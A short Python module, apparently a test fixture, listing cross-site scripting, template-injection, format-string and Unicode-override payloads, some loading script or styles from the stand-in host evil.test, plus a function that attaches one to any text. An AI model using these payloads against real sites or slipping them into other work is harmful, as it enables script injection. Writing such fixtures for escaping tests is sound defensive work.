"""Texts that somebody writes who would like a page to do something else than show them."""

from zlib import crc32

PAYLOADS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "javascript:alert(1)",
    "</title><script src=//evil.test></script>",
    "{{7*7}}${7*7}<%=7*7%>#{7*7}",
    '<a href="javascript:alert(1)">x</a>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<style>@import'//evil.test'</style>",
    "<!--<form action=//evil.test>",
    "\u202etset.live\u202c\u2066",
    "%(num)s %s {0} {}",
)


def hostile(text: str) -> str:
    """The text behind one of the payloads, always of the same one."""
    return f"{PAYLOADS[crc32(text.encode()) % len(PAYLOADS)]} {text}"
